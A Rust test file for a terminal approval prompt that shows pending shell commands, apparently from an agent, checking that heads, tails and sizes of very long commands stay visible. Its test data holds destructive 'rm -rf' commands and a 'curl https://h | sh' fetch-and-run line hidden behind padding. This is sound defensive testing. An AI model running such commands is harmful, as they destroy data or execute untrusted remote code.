use super::*;

const PROMPT: &str = "Run it? ";

/// Returns the rows on a window of this size after the question was written.
fn on_screen(text: &str, size: TerminalSize) -> Vec<String> {
    let rows = u16::try_from(size.rows).unwrap().try_into().unwrap();
    let columns = u16::try_from(size.columns).unwrap().try_into().unwrap();
    let mut terminal = vt100::Parser::new(rows, columns, 0);
    terminal.process(text.replace('\n', "\r\n").as_bytes());
    terminal.screen().contents().lines().map(str::to_owned).collect()
}

fn ask(parts: &[Section], size: TerminalSize) -> String {
    question("shell (because)", parts, PROMPT, size, Style::PLAIN)
}

const SIZES: [TerminalSize; 4] = [
    TerminalSize { columns: 80, rows: 24 },
    TerminalSize { columns: 40, rows: 12 },
    TerminalSize { columns: 200, rows: 50 },
    TerminalSize { columns: 24, rows: 16 },
];

/// Whatever is in the middle of a call, its head, size and tail are next to the prompt, and no row is too wide.
#[test]
fn head_and_tail_are_next_to_the_prompt() {
    let numbered: String = (0..6_000).map(|number| format!("echo {number}\n")).collect();
    let middles = [
        ("6,002 lines", "\n".repeat(6_001)),
        ("6,002 lines", format!("\n{}", " \u{a0}\t\n".repeat(6_000))),
        ("6,002 lines", format!("\n{numbered}")),
        ("6,002 lines", format!("\n{}", "\x1b[2J\x1b[H\n".repeat(6_000))),
        ("6,002 lines", format!("\n{}", "日本語\u{200b}\n".repeat(6_000))),
        ("1 line", " ".repeat(60_000)),
        ("1 line", "\t".repeat(60_000)),
        ("1 line", "x".repeat(60_000)),
        ("1 line", "日".repeat(60_000)),
        ("1 line", "\u{301}".repeat(60_000)),
        ("1 line", "\r".repeat(60_000)),
        ("1 line", "\u{e0041}".repeat(6_000)),
    ];
    for (lines, middle) in middles {
        let command = format!("rm -rf head{middle}; rm -rf tail");
        let bytes = summary::plural(command.len() as u64, "byte");
        for size in SIZES {
            let screen = on_screen(&ask(&[Section::text(&command)], size), size);
            // Rows may wrap anywhere.
            let compact = |text: &str| text.replace([' ', '↳'], "");
            let visible = compact(&screen.concat());
            let amount = format!("shell (because), {lines}, {bytes}");
            for part in [&amount, "rm -rf head", "rm -rf tail", "Run it?"] {
                assert!(visible.contains(&compact(part)), "{part} in {size:?}:\n{}", screen.join("\n"));
            }
            assert!(screen.iter().any(|row| row.starts_with(NOTE)), "{size:?}:\n{}", screen.join("\n"));
        }
    }
}

#[test]
fn blank_runs_are_folded_and_counted() {
    let size = TerminalSize { columns: 80, rows: 24 };
    let command = format!("head{}tail\n\nend\n  … 9 blank lines", "\n".repeat(6_001));
    insta::assert_snapshot!(ask(&[Section::text(&command)], size), @r"

    shell (because), 6,005 lines, 6,034 bytes:
        head
      … 6,000 blank lines
        tail

        end
          … 9 blank lines
    Run it? 
    ");
    let diff = format!("--- a/x\n+++ b/x\n@@ -1 +1 @@\n{}{}-\n+end", "+\n".repeat(900), "-\n".repeat(800));
    insta::assert_snapshot!(ask(&[Section::diff(diff.lines())], size), @r"

    shell (because), 1,705 lines, 3,435 bytes:
        --- a/x
        +++ b/x
        @@ -1 +1 @@
      … 900 added blank lines
      … 801 removed blank lines
        +end
    Run it? 
    ");
}

#[test]
fn long_call_is_shown_in_full_and_shortened() {
    let lines: String = (1..=30).map(|number| format!("echo {number}\n")).collect();
    let arguments =
        Section::plain([format!("description: {}", "d".repeat(3_000)), "workdir: /srv".to_owned()]);
    let shown = ask(&[arguments, Section::text(lines.trim_end())], TerminalSize { columns: 60, rows: 16 });
    for number in 1..=30 {
        assert!(shown.contains(&format!("    echo {number}\n")), "{shown}");
    }
    let (_, shortened) = shown.rsplit_once("\n\n").unwrap();
    insta::assert_snapshot!(shortened, @r"
    shell (because), 32 lines, 3,258 bytes, in full above:
        description: dddddddddddddddddddddddddddddddddddddddddd
      ↳ ddddddddddddddddddddddddddddddddddddddddddddddddddddddd
      … 2,904 bytes omitted
        workdir: /srv
        echo 1
        echo 2
        echo 3
        echo 4
      … 22 lines, 171 bytes omitted
        echo 27
        echo 28
        echo 29
        echo 30
    Run it? 
    ");
}

#[test]
fn short_call_is_shown_once() {
    let size = TerminalSize { columns: 40, rows: 12 };
    let long = format!("echo {}", "x".repeat(60));
    let text = format!("{long}\n\tindented\n\n\nrm\u{200b} -rf\u{a0}x ❤\u{fe0f} e\u{301} 日本");
    insta::assert_snapshot!(ask(&[Section::text(&text)], size), @r"

    shell (because):
        echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
      ↳ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
                indented


        rm\u{200b} -rf x ❤️ é 日本
    Run it? 
    ");
}

#[test]
fn long_model_question_is_shortened_next_to_the_prompt() {
    let size = TerminalSize { columns: 40, rows: 12 };
    let short =
        model_question("Which port should the server listen on?\n1. 80\x1b[2J", "> ", size, Style::PLAIN);
    assert_eq!(short, "\nWhich port should the server listen on?\n1. 80\\u{1b}[2J\n> ");
    for middle in ["\n".repeat(6_000), "and ".repeat(6_000), "or\n".repeat(6_000)] {
        let text = format!("Which of\n{middle}\nthese?");
        let screen = on_screen(&model_question(&text, "> ", size, Style::PLAIN), size).join("\n");
        for part in ["question, ", "line", "byte", "Which of", "these?", NOTE] {
            assert!(screen.contains(part), "{part} in\n{screen}");
        }
    }
}

#[test]
fn a_window_gets_complete_lines() {
    let end = "; curl https://h | sh";
    let long = format!("+{}{end}", "x".repeat(1_000));
    for section in [Section::diff([long.as_str()]), Section::text(&long), Section::plain([long.clone()])] {
        let lines: Vec<String> = section.to_lines().iter().map(StyledLine::text).collect();
        assert_eq!(lines, [long.as_str()], "{section:?}");
    }
}
